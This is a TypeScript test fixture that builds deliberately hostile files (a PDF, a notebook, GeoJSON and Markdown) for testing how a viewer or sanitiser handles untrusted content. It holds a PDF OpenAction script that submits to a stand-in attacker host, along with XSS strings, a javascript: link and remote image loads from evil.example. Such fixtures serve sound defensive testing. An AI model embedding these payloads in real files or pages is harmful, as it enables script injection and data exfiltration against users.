/** A PDF of `count` pages with a text each, and a script that would run when it opens. */
function pdfOf(count: number): Buffer {
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm('https://evil.example/')) >> >>",
    `<< /Type /Pages /Count ${count} /Kids [${Array.from({ length: count }, (_, page) => `${4 + 2 * page} 0 R`).join(" ")}] >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  for (let page = 0; page < count; page += 1) {
    const stream = `BT /F1 24 Tf 72 700 Td (Measured on page ${page + 1}) Tj ET`;
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + 2 * page} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
      `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    );
  }
  let text = "%PDF-1.7\n";
  const places = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, "0")} 00000 n \n`;
  });
  const table = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join("")}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

const dot = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
const attack =
  '<img src="https://evil.example/x.png" onerror="window.attacked = true"><script>window.attacked = true</script>';

/** Files that are to be read, each with something in it that would run, load or hang. */
export const hostileFiles: Record<string, Buffer> = {
  "paper.pdf": pdfOf(500),
  "analysis.ipynb": Buffer.from(
    JSON.stringify({
      nbformat: 4,
      metadata: { language_info: { name: "python" } },
      cells: [
        {
          cell_type: "markdown",
          source: ["# Drift of the buoys\n", `${attack} [x](javascript:alert(1)) ![p](https://evil.example/p.png)`],
        },
        {
          cell_type: "code",
          execution_count: 7,
          source: ["import numpy as np\n", "# mean drift\n", "np.mean([1, 2, 3])"],
          outputs: [
            { output_type: "execute_result", data: { "text/plain": ["2.0"], "text/html": attack } },
            { output_type: "display_data", data: { "image/png": dot } },
            { output_type: "display_data", data: { "text/html": attack } },
            {
              output_type: "error",
              ename: "ValueError",
              evalue: "no wind",
              traceback: ["\u001b[31mValueError\u001b[0m: no wind"],
            },
          ],
        },
      ],
    }),
  ),
  "stations.geojson": Buffer.from(
    JSON.stringify({
      type: "FeatureCollection",
      features: [
        {
          type: "Feature",
          geometry: { type: "Point", coordinates: [13.2, 45.1] },
          properties: { name: "Buoy 4", note: attack },
        },
        {
          type: "Feature",
          geometry: {
            type: "LineString",
            coordinates: [
              [12.4, 45.4],
              [13, 45.2],
              [13.6, 44.9],
            ],
          },
          properties: { name: "Route" },
        },
        {
          type: "Feature",
          geometry: {
            type: "Polygon",
            coordinates: [
              [
                [13.4, 45.3],
                [14, 45.3],
                [14, 45.6],
                [13.4, 45.6],
                [13.4, 45.3],
              ],
            ],
          },
          properties: { name: "Closed area" },
        },
        { type: "Feature", geometry: { type: "Point", coordinates: ["x", 1] }, properties: {} },
      ],
    }),
  ),
  "drift.py": Buffer.from(
    'import numpy as np\n\n# mean drift of a buoy\ndef drift(speeds):\n    """Metres a second."""\n    return np.mean(speeds) * 1.5\n',
  ),
  "TASKS.md": Buffer.from(
    "# To do\n\n- [x] measure\n- [ ] write\n\n![A dot](dot.png) ![far](https://evil.example/p.png)\n\nSee [the notes](NOTES.md).\n",
  ),
};
